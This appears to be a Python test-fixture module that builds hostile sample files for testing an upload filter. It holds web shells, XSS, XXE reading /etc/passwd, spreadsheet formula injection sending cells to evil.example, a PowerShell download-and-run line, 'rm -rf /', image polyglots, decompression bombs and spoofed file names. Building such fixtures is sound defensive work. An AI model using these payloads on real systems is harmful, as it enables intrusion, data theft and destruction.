"""Hostile programs, scripts, pages, pictures, tables, messages and names."""
# ruff: noqa: E501 - a piece of a file format is shown as it stands in the file

import email.message
import gzip
import random
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.hostile_files import pdf_bytes
from tests.hostile_files.honest_documents import word_plain
from tests.hostile_files.honest_others import zipped
from tests.hostile_files.honest_pictures import picture, saved
from tests.hostile_files.hostile_archives import PROGRAM

Files = Iterator[tuple[str, bytes]]


def programs(rng: random.Random) -> Files:
    """By content, under any name."""
    for number, content in enumerate((
        PROGRAM, b"\x7fELF\x02\x01\x01" + bytes(60), b"\xcf\xfa\xed\xfe" + bytes(60), b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), b"#!/bin/sh\nrm -rf /\n", b"L\0\0\0\x01\x14\x02\0" + bytes(80), b"ITSF" + bytes(60), bytes(32769) + b"CD001" + bytes(99),
        b"\0asm\1\0\0\0", b"dex\n035\0" + bytes(99), b"MSCF" + bytes(60), zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}), b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(99), b"FWS\x09" + bytes(50),
        b"%!PS-Adobe-3.0\n(%pipe%calc) (w) file\n", b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n", b"Windows Registry Editor Version 5.00\r\n", b"@echo off\r\ncalc\r\n", b"ID;P\r\nC;X1;Y1;K0;ECALL()\r\n",
    )):  # fmt: skip
        for ending in ("pdf", "txt", "dat", "bin")[: 2 + number % 3]:
            if content[:4] in (b"%!PS",) and ending == "bin":
                continue
            yield f"offer-{number}.{ending}", content


def scripts(rng: random.Random) -> Files:
    """By ending and by content."""
    for ending in [
        "js",
        "vbs",
        "ps1",
        "bat",
        "cmd",
        "hta",
        "wsf",
        "scr",
        "com",
        "pif",
        "jar",
        "msi",
        "iso",
        "chm",
        "lnk",
        "url",
        "reg",
        "sh",
        "py",
        "exe",
        "dll",
        "docm",
        "xlsm",
        "xll",
        "iqy",
        "slk",
        "cpl",
        "jse",
        "vbe",
        "html.js",
        "svgz",
    ]:
        yield f"tool.{ending}", b"x = 1\n"
    yield "shell.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'
    yield "power.txt", b"powershell -nop -w hidden -enc SQBFAFgA\r\n"
    yield "web.txt", b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example')\n"
    yield "php.txt", b"<?php system($_GET['c']); ?>"
    yield "utf16.txt", 'var s = new ActiveXObject("WScript.Shell");'.encode("utf-16")
    yield "page.hta", b"<hta:application><script>x</script>"


def pages(rng: random.Random) -> Files:
    """Web pages that act."""
    for number, body in enumerate((
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src='http://evil.example'></iframe>", "<a href='javascript:alert(1)'>x</a>", "<a href='&#106;ava&#x0A;script:alert(1)'>x</a>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<object data='x.swf'></object>", "<form action='http://evil.example'><input name=p></form>", "<svg/onload=alert(1)>", "<link rel=stylesheet href='x'><style>p{behavior:url(x.htc)}</style>", "<img src='file://evil.example/s/x.png'>", "<base href='http://evil.example'>", "<embed src=x>", "<SCRIPT\nSRC=http://evil.example></SCRIPT>",
    )):  # fmt: skip
        yield f"page-{number}.html", f"<!DOCTYPE html><html><body>{body}</body></html>".encode()
    yield "utf16.html", "<html><script>alert(1)</script></html>".encode("utf-16")
    yield "utf7.html", b"<html><head><meta charset=utf-7></head>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</html>"


def drawings(rng: random.Random) -> Files:
    """SVG that acts."""
    for number, body in enumerate((
        "<script>alert(1)</script>", "<rect onload='alert(1)'/>", "<foreignObject><body/></foreignObject>", "<image xlink:href='http://evil.example/x.png'/>", "<use href='http://evil.example/x.svg#a'/>", "<a xlink:href='javascript:alert(1)'><text>x</text></a>", "<style>@import 'http://evil.example';</style>",
        "<set attributeName='href' to='javascript:alert(1)'/>", "<image href='data:image/svg+xml;base64,PHN2Zy8+'/>", "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    )):  # fmt: skip
        yield (
            f"plan-{number}.svg",
            f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{body}</svg>".encode(),
        )
    yield (
        "entity.svg",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    )


def xml(rng: random.Random) -> Files:
    """Entities, and XML that a program acts on."""
    yield (
        "laughs.xml",
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>',
    )
    yield "outside.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield "parameter.xml", b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;]><x/>'
    yield (
        "utf16.xml",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'.encode(
            "utf-16"
        ),
    )
    yield "quadratic.xml", b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]><x>' + b"&a;" * 5000 + b"</x>"
    yield (
        "build.xml",
        b'<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="x"/></Project>',
    )
    yield "scriptlet.xml", b"<?XML version='1.0'?><scriptlet><script>x</script></scriptlet>"
    yield (
        "word.xml",
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">QWN0aXZlTWltZQAA</w:binData></w:docSuppData></w:wordDocument>',
    )
    yield (
        "package.xml",
        b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/_rels/s.rels"><pkg:xmlData><Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part></pkg:package>',
    )


def pictures(rng: random.Random) -> Files:
    """Two things at once, bombs, sizes that cannot be."""
    base = picture(rng, 90, 60)
    jpeg, png, gif = saved(base, "JPEG"), saved(base, "PNG"), saved(base.convert("P"), "GIF")
    for name, good in (
        ("a.jpg", jpeg),
        ("a.png", png),
        ("a.gif", gif),
        ("a.bmp", saved(base, "BMP")),
        ("a.webp", saved(base, "WEBP")),
    ):
        kind = name[2:]
        yield f"program-behind.{kind}", good + PROGRAM
        yield f"zip-behind.{kind}", good + zipped({"a.txt": b"x"})
        yield f"page-behind.{kind}", good + b"<html><script>alert(1)</script></html>"
        yield f"much-behind.{kind}", good + rng.randbytes(3000)
        second = b"\xff\xd8\xff\xe0" + rng.randbytes(900)
        for what, behind in (
            ("server-page", b'<%eval request("x")%>'),
            ("packed", gzip.compress(b"a" * 99)),
            ("script", b"#!/bin/sh\nrm -r /"),
        ):
            yield f"{what}-behind-a-second.{kind}", good + second + behind
    yield "script.gif", b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)//"
    yield (
        "comment.jpg",
        jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 40) + b"<script>alert(document.cookie)</script>"[:38] + jpeg[2:],
    )
    yield (
        "pdf.jpg",
        jpeg[:2]
        + b"\xff\xfe"
        + struct.pack(">H", 400)
        + pdf_bytes.write(pdf_bytes.objects())[:398].ljust(398, b" ")
        + jpeg[2:],
    )
    yield "php.png", png[:33] + _chunk(b"tEXt", b"Comment\0<?php system($_GET[0]);?>") + png[33:]


def bombs(rng: random.Random) -> Files:
    """Pictures that burst readers, or have no size."""
    yield (
        "bomb.png",
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">LLBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(bytes(9999)))
        + _chunk(b"IEND", b""),
    )
    yield (
        "nothing.png",
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">LLBBBBB", 0, 10, 8, 2, 0, 0, 0)) + _chunk(b"IEND", b""),
    )
    yield "bomb-true.png", saved(Image.new("RGB", (14000, 14000)), "PNG", compress_level=9)
    yield (
        "bomb.gif",
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0)
        + b","
        + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
        + b"\2\1\0\0;",
    )
    yield "nothing.gif", b"GIF89a" + struct.pack("<HHBBB", 0, 0, 0, 0, 0) + b";"


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def tables(rng: random.Random) -> Files:
    """Cells that start programs or send what stands beside them."""
    for number, cell in enumerate((
        "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "\"=cmd|' /C calc'!A0\"", " =cmd|'/c calc'!A0", "\t=cmd|'/c calc'!A0", "=WEBSERVICE(\"http://evil.example/?\"&A1)", '"=HYPERLINK(""http://evil.example/?x=""&A1,""go"")"',
        "=DDE(\"cmd\";\"/c calc\";\"x\")", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "＝cmd|'/c calc'!A0",
    )):  # fmt: skip
        for ending, separator in (("csv", ","), ("tsv", "\t"), ("csv", ";"))[: 1 + number % 3]:
            yield f"table-{number}-{ord(separator)}.{ending}", f"a{separator}b\n1{separator}{cell}\n".encode()
    yield "utf16.csv", "a,b\n1,=cmd|'/c calc'!A0\n".encode("utf-16")
    yield "gz.csv.gz", gzip.compress(b"a,=cmd|'/c calc'!A0\n")


def messages(rng: random.Random) -> Files:
    """Attachments of messages."""

    def holding(name: str, content: bytes, **more: str) -> email.message.EmailMessage:
        message = email.message.EmailMessage()
        message["From"], message["To"], message["Subject"] = "a@x.example", "b@x.example", "Offer"
        message.set_content("see attached")
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name, **more)
        return message

    yield "program.eml", holding("a.exe", PROGRAM).as_bytes()
    yield "as-text.eml", holding("a.txt", PROGRAM).as_bytes()
    yield "turned.eml", holding("a\u202efdp.exe", PROGRAM).as_bytes()
    yield "accent.eml", holding("ä.scr", b"x").as_bytes()
    hidden = holding("a.pdf", PROGRAM).as_bytes()
    yield (
        "told-twice.eml",
        hidden.replace(
            b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: base64"
        ),
    )
    yield (
        "utf7.eml",
        b"From: a@x\nTo: b@x\nSubject: x\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n",
    )
    yield "archive.eml", holding("a.zip", zipped({"x.js": b"x"})).as_bytes()
    outer = email.message.EmailMessage()
    outer["From"], outer["To"], outer["Subject"] = "a@x.example", "b@x.example", "Fwd"
    outer.set_content("x")
    outer.add_attachment(holding("a.exe", PROGRAM))
    yield "forwarded.eml", outer.as_bytes()
    page = email.message.EmailMessage()
    page["From"], page["To"], page["Subject"] = "a@x.example", "b@x.example", "x"
    page.set_content("<html><script>alert(1)</script></html>", subtype="html")
    yield "page.eml", page.as_bytes()
    yield (
        "box.mbox",
        b"From a@x Mon Jan  1 00:00:00 2026\n"
        + page.as_bytes()
        + b"\n\nFrom b@x Mon Jan  1 00:00:00 2026\n"
        + holding("a.exe", PROGRAM).as_bytes(),
    )
    import binascii

    body = b"".join(binascii.b2a_uu(PROGRAM[at : at + 45]) for at in range(0, len(PROGRAM), 45))
    yield "uuencoded.txt", b"hello\nbegin 644 a.exe\n" + body + b"`\nend\n"
    yield (
        "sealed.eml",
        b"From: a@x\nTo: b@x\nSubject: x\nMIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIIB\n",
    )


def names(rng: random.Random) -> Files:
    """Names that mislead."""
    pdf = pdf_bytes.write(pdf_bytes.objects())
    for name in ("offer\u202efdp.txt", "of\u200bfer.pdf", "offer.pdf ", "offer.pdf.", "offer.exe.pdf", "offer.pdf              .pdf", "offer.рdf", "offer.pdf\n", "CON.pdf", "nul", "lpt1.pdf", "a" * 300 + ".pdf", "../offer.pdf", "a/b.pdf", "a\\b.pdf",
                 "offer\u2066.pdf", "offer.scr .pdf", "offer．exe", "offer․exe", " offer.pdf", "\u2028.pdf", "offer\0.pdf", "offer.pdf:x.exe", "x.vbs.pdf"):  # fmt: skip
        yield name, pdf


def wrong_endings(rng: random.Random) -> Files:
    """Content under another ending."""
    pdf, docx, png = pdf_bytes.write(pdf_bytes.objects()), word_plain(rng), saved(picture(rng, 30, 30), "PNG")
    yield from (
        ("a.docx", pdf),
        ("a.pdf", docx),
        ("a.xlsx", docx),
        ("a.pdf", png),
        ("a.png", pdf),
        ("a.pdf", b"<html><body>x</body></html>"),
        ("a.pdf", b"just text"),
        ("a.docx", zipped({"a.txt": b"x"})),
        ("a.zip", docx),
        ("a.xls", b"<html><table></table></html>"),
        ("a.csv", pdf),
        ("a.txt", b"<html><body>x</body></html>"),
        ("a.jpg", png),
        ("a.doc", docx),
        ("a.pdf", b""),
        ("a.xlsx", rng.randbytes(999)),
        ("a.pdf", rng.randbytes(999)),
        ("a.docx", b"PK\3\4" + rng.randbytes(999)),
    )


MAKERS = (programs, scripts, pages, drawings, bombs, xml, pictures, tables, messages, names, wrong_endings)
